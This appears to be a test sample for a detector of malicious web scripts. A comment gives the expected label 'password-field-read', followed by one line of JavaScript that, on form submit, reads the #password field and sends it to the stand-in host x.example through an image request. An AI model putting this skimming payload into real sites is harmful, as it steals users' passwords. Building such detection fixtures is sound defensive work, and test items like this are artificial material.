// expect: password-field-read
document.forms[0].onsubmit=function(){var x=new Image();x.src="https://x.example/?p="+document.querySelector("#password").value};
